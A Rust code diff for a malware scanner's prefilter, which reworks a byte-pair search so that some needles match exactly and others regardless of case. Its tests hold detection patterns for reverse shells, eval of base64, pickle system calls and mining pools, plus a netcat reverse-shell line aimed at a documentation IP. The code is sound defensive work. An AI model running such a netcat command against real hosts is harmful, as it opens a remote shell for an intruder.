@@ -4,7 +4,7 @@
 //! looks for. So each rule is known by needles too, texts of which one stands in whatever the rule matches; where none stands, the engine is not asked.
 //! The needles are derived from the rules by a test, never by hand: a rule that changes without them is not sieved.
 //!
-//! The search is that of Wu and Manber over pairs of bytes, without regard to ASCII case: it looks at about one byte of three. An adversary who
+//! The search is that of Wu and Manber over pairs of bytes: it looks at about one byte of three. An adversary who
 //! writes needles into a file gets the rules applied to it, which is what happened to every file before.
 
 use crate::needles::Pair;
@@ -23,10 +23,11 @@ pub(crate) struct Sieve {
 }
 
 impl Sieve {
-    /// Of needles in lower case, of which one must be there, and of pairs of lists, of which one each must; nothing where they cannot be looked for.
-    pub(crate) fn new(any: &[&'static [u8]], pairs: &[Pair]) -> Option<Self> {
+    /// Of needles of which one must be there, as it is or, where it stands in lower case in `any_case`, in any; and of pairs of lists, of which one each
+    /// must, in any case. Nothing where they cannot be looked for.
+    pub(crate) fn new(exact: &[&'static [u8]], any_case: &[&'static [u8]], pairs: &[Pair]) -> Option<Self> {
         let pairs = pairs.iter().map(|(one, other)| Some((Few::new(one)?, Few::new(other)?))).collect::<Option<_>>()?;
-        Some(Self { any: Search::new(any)?, pairs })
+        Some(Self { any: Search::new(exact, any_case)?, pairs })
     }
 
     /// True where `bytes` holds what a rule needs.
@@ -46,23 +47,25 @@ struct Search {
 }
 
 impl Search {
-    /// Nothing for an empty list, and for one with a needle that is too short.
-    fn new(needles: &[&'static [u8]]) -> Option<Self> {
-        let window = needles.iter().map(|needle| needle.len()).min()?.min(WINDOW_BYTES_MAX);
+    /// Nothing for empty lists, and for one with a needle that is too short.
+    fn new(exact: &[&'static [u8]], any_case: &[&'static [u8]]) -> Option<Self> {
+        let all = || exact.iter().map(|needle| (*needle, true)).chain(any_case.iter().map(|needle| (*needle, false)));
+        let window = all().map(|(needle, _)| needle.len()).min()?.min(WINDOW_BYTES_MAX);
         let furthest = u8::try_from(window.checked_sub(1)?).ok()?;
         let mut steps: Box<[u8; PAIRS]> = vec![furthest; PAIRS].into_boxed_slice().try_into().ok()?;
-        for needle in needles {
-            for (left, pair) in needle.get(..window)?.windows(2).rev().zip(0_u8..).map(|(pair, left)| (left, pair)) {
+        for (needle, exact) in all() {
+            let other = |byte: u8| if exact { byte } else { byte.to_ascii_uppercase() };
+            for (left, pair) in (0_u8..).zip(needle.get(..window)?.windows(2).rev()) {
                 let [first, second] = *pair.first_chunk::<2>()?;
-                for one in [first, first.to_ascii_uppercase()] {
-                    for two in [second, second.to_ascii_uppercase()] {
+                for one in [first, other(first)] {
+                    for two in [second, other(second)] {
                         let step = steps.get_mut(usize::from(u16::from_le_bytes([one, two])))?;
                         *step = left.min(*step);
                     }
                 }
             }
         }
-        Some(Self { window, steps, needles: Needles::new(needles)? })
+        Some(Self { window, steps, needles: Needles::new(all())? })
     }
 
     /// True where a needle stands in `bytes`.
@@ -79,7 +82,7 @@ impl Search {
     }
 }
 
-/// Few needles, which are looked for by their first byte.
+/// Few needles in lower case, which are looked for in any by their first byte.
 #[derive(Debug)]
 struct Few {
     first: [bool; 256],
@@ -95,7 +98,7 @@ impl Few {
                 *first.get_mut(usize::from(byte))? = true;
             }
         }
-        Some(Self { first, needles: Needles::new(needles)? })
+        Some(Self { first, needles: Needles::new(needles.iter().map(|needle| (*needle, false)))? })
     }
 
     fn holds(&self, bytes: &[u8]) -> bool {
@@ -104,20 +107,22 @@ impl Few {
     }
 }
 
-/// Needles in lower case with their first bytes, in the order of those.
+/// Needles by their first bytes.
 #[derive(Debug)]
 struct Needles {
-    sorted: Vec<([u8; START_BYTES], &'static [u8])>,
+    /// The start in lower case, the needle, and whether its case counts; in the order of the starts.
+    sorted: Vec<([u8; START_BYTES], &'static [u8], bool)>,
     /// Which sums of first bytes there are: nearly every other start is told from them at once.
     sums: Box<[bool; SUMS]>,
 }
 
 impl Needles {
-    fn new(needles: &[&'static [u8]]) -> Option<Self> {
-        let mut sorted = needles.iter().map(|needle| Some((*needle.first_chunk()?, *needle))).collect::<Option<Vec<_>>>()?;
-        sorted.sort_unstable();
+    fn new(needles: impl Iterator<Item = (&'static [u8], bool)>) -> Option<Self> {
+        let entry = |(needle, exact): (&'static [u8], bool)| Some((lower(*needle.first_chunk()?), needle, exact));
+        let mut sorted = needles.map(entry).collect::<Option<Vec<_>>>()?;
+        sorted.sort_unstable_by_key(|(start, ..)| *start);
         let mut sums: Box<[bool; SUMS]> = vec![false; SUMS].into_boxed_slice().try_into().ok()?;
-        for (start, _) in &sorted {
+        for (start, ..) in &sorted {
             *sums.get_mut(sum(*start))? = true;
         }
         Some(Self { sorted, sums })
@@ -129,11 +134,18 @@ impl Needles {
         if self.sums.get(sum(*start)) == Some(&false) {
             return false;
         }
-        let start = start.map(|byte| byte.to_ascii_lowercase());
-        let from = self.sorted.partition_point(|(known, _)| *known < start);
-        let mut alike = self.sorted.get(from..).unwrap_or_default().iter().take_while(|(known, _)| *known == start);
-        alike.any(|(_, needle)| bytes.get(..needle.len()).is_some_and(|text| text.eq_ignore_ascii_case(needle)))
+        let start = lower(*start);
+        let from = self.sorted.partition_point(|(known, ..)| *known < start);
+        let mut alike = self.sorted.get(from..).unwrap_or_default().iter().take_while(|(known, ..)| *known == start);
+        alike.any(|(_, needle, exact)| {
+            let text = bytes.get(..needle.len()).unwrap_or_default();
+            if *exact { text == *needle } else { text.eq_ignore_ascii_case(needle) }
+        })
     }
+}
+
+fn lower(start: [u8; START_BYTES]) -> [u8; START_BYTES] {
+    start.map(|byte| byte.to_ascii_lowercase())
 }
 
 const SUMS: usize = 1 << 12;
@@ -149,30 +161,34 @@ mod tests {
     use super::*;
     use proptest::prelude::*;
 
-    const NEEDLES: &[&[u8]] = &[b"eval(", b"/dev/tcp", b"\x8c\x06system", b"636f", b"val(b64"];
+    const EXACT: &[&[u8]] = &[b"eVal(", b"\x8c\x06system", b"val(B64"];
+    const ANY_CASE: &[&[u8]] = &[b"/dev/tcp", b"636f"];
 
     #[test]
-    fn needles_are_found_wherever_they_stand_and_in_any_case() {
-        let sieve = Search::new(NEEDLES).unwrap();
-        for needle in NEEDLES {
+    fn needles_are_found_wherever_they_stand() {
+        let search = Search::new(EXACT, ANY_CASE).unwrap();
+        for needle in EXACT.iter().map(|needle| needle.to_vec()).chain(ANY_CASE.iter().map(|needle| needle.to_ascii_uppercase())) {
             for before in 0..20 {
-                let text = [&vec![b'e'; before][..], &needle.to_ascii_uppercase(), b"x"].concat();
-                assert!(sieve.holds(&text), "{text:?}");
+                let text = [&vec![b'e'; before][..], &needle, b"x"].concat();
+                assert!(search.holds(&text), "{text:?}");
                 let cut = &text[..before + needle.len() - 1];
-                assert!(!sieve.holds(cut), "{cut:?}");
+                assert!(!search.holds(cut), "{cut:?}");
             }
         }
-        assert!(!sieve.holds(b"") && !sieve.holds(b"ev"));
+        assert!(!search.holds(b"") && !search.holds(b"eV") && !search.holds(b"EVAL( VAL(b64"));
     }
 
     #[test]
     fn lists_that_cannot_be_looked_for_are_refused() {
-        assert!(Search::new(&[]).is_none() && Search::new(&[b"ab"]).is_none() && Search::new(&[b"abcdef", b""]).is_none());
+        let lists: [&[&[u8]]; 3] = [&[], &[b"ab"], &[b"abcdef", b""]];
+        for list in lists {
+            assert!(Search::new(list, &[]).is_none() && Search::new(&[], list).is_none());
+        }
     }
 
     #[test]
     fn of_a_pair_both_must_be_there() {
-        let sieve = Sieve::new(&[b"stratum"], &[(&[b"-e ", b"-c "], &[b"nc ", b"ncat"])]).unwrap();
+        let sieve = Sieve::new(&[b"stratum"], &[], &[(&[b"-e ", b"-c "], &[b"nc ", b"ncat"])]).unwrap();
         assert!(sieve.holds(b"x nc 203.0.113.7 4444 -e sh") && sieve.holds(b"-c , Ncat") && sieve.holds(b"stratum"));
         assert!(!sieve.holds(b"a func of some kind") && !sieve.holds(b"perl -e print") && !sieve.holds(b""));
     }
@@ -180,12 +196,12 @@ mod tests {
     proptest! {
         /// The same answer as looking at every place for every needle; the letters are those of the needles, so that there is much to stumble over.
         #[test]
-        fn it_answers_as_the_plain_search_does(letters in proptest::collection::vec(0_usize..24, 0..200)) {
-            let alphabet = b"evalEVAL(/dtcpD\x8c\x06system";
+        fn it_answers_as_the_plain_search_does(letters in proptest::collection::vec(0_usize..25, 0..200)) {
+            let alphabet = b"evalEVAL(/dtcpD\x8c\x06systemB";
             let text: Vec<u8> = letters.iter().filter_map(|at| alphabet.get(*at).copied()).collect();
-            let folded = text.to_ascii_lowercase();
-            let plain = NEEDLES.iter().any(|needle| folded.windows(needle.len()).any(|window| window == *needle));
-            prop_assert_eq!(Search::new(NEEDLES).unwrap().holds(&text), plain);
+            let lower = text.to_ascii_lowercase();
+            let there = |text: &[u8], needles: &[&[u8]]| needles.iter().any(|needle| text.windows(needle.len()).any(|window| window == *needle));
+            prop_assert_eq!(Search::new(EXACT, ANY_CASE).unwrap().holds(&text), there(&text, EXACT) || there(&lower, ANY_CASE));
         }
     }
 }
